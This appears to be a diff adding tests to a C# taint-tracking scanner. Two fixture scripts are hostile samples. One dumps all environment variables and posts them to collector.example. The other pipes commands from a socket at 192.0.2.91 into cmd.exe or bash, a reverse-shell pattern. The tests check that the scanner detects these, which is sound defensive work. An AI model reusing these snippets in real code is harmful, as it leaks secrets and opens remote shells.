@@ -262,6 +262,50 @@ public sealed class CSharpExtractorTests
     }
 
     [Fact]
+    public void EnvironmentCopiedEntryByEntryIntoACollectionKeepsItsTaint()
+    {
+        var run = Extract("""
+            using System.Collections;
+            using System.Net.Http;
+            var info = new Dictionary<string, object?> { ["os"] = "x" };
+            var vars = new Dictionary<string, string?>();
+            foreach (DictionaryEntry e in Environment.GetEnvironmentVariables())
+                vars[(string)e.Key] = e.Value?.ToString();
+            info["env"] = vars;
+            using var http = new HttpClient();
+            await http.PostAsync("https://collector.example/env", new StringContent(System.Text.Json.JsonSerializer.Serialize(info)));
+            """, "inspect.csx");
+
+        var post = run.Call("System.Net.Http.HttpClient.PostAsync");
+        Assert.Equal(["loop variable e", "stored in vars", "stored in info", "serialised"], post.Args[1].Taint("env.dump").Steps.Select(s => s.Message).Take(4));
+    }
+
+    [Fact]
+    public void ShellChosenByAConditionalOverASocketStream()
+    {
+        var run = Extract("""
+            using System.Diagnostics;
+            using System.Net.Sockets;
+            using var client = new TcpClient("192.0.2.91", 8081);
+            using var stream = client.GetStream();
+            var shell = OperatingSystem.IsWindows() ? "cmd.exe" : "/bin/bash";
+            var p = new Process { StartInfo = new ProcessStartInfo(shell) { RedirectStandardInput = true } };
+            p.Start();
+            var reader = new StreamReader(stream);
+            p.StandardInput.WriteLine(reader.ReadLine());
+            """, "support.csx");
+
+        var start = run.Call("System.Diagnostics.Process.Start");
+        Assert.Equal("cmd.exe", start.Named["FileName"].Constant);
+        Assert.Contains("proc.shell", start.Capabilities);
+        Assert.Equal("true", start.Named["RedirectStandardInput"].Text);
+        var reader = run.Call("System.IO.StreamReader");
+        Assert.DoesNotContain("fs.read", reader.Capabilities);
+        Assert.True(reader.Args[0].HasTaint("net.fetch"));
+        Assert.True(run.Call("System.IO.StreamWriter.WriteLine").Args[0].HasTaint("net.fetch"));
+    }
+
+    [Fact]
     public void TaintReachesPrivateHelpersThroughTheirParameters()
     {
         var run = Extract("""
@@ -328,7 +372,8 @@ public sealed class CSharpExtractorTests
             """);
 
         var start = run.Call("System.Diagnostics.Process.Start");
-        Assert.StartsWith("reflection", start.ResolvedVia);
+        Assert.StartsWith("computed access through reflection", start.ResolvedVia);
+        Assert.Contains("concatenated string", start.ResolvedVia);
         Assert.Equal("calc.exe", start.Args[0].Constant);
         Assert.Contains("code.load", run.Call("System.Reflection.MethodInfo.Invoke").Capabilities);
     }
@@ -410,8 +455,9 @@ public sealed class CSharpExtractorTests
     [Fact]
     public void DeepCallNestingDoesNotOverflowTheStack()
     {
-        // Roslyn's parser stops building nested calls a little beyond 3,000 levels; the walk must handle all it builds.
-        const int depth = 3_000;
+        // The front end refuses nesting over RoslynFrontEnd.MaxNesting (Roslyn overflows the stack far beyond it);
+        // the walk must handle everything up to that limit on a small stack.
+        const int depth = SkillScan.Syntax.RoslynFrontEnd.MaxNesting - 2;
         var code = "class C { void M() { var s = " + string.Concat(Enumerable.Repeat("F(", depth)) + "\"x\"" + new string(')', depth) + "; } }";
 
         var run = Extract(code, smallStack: true);
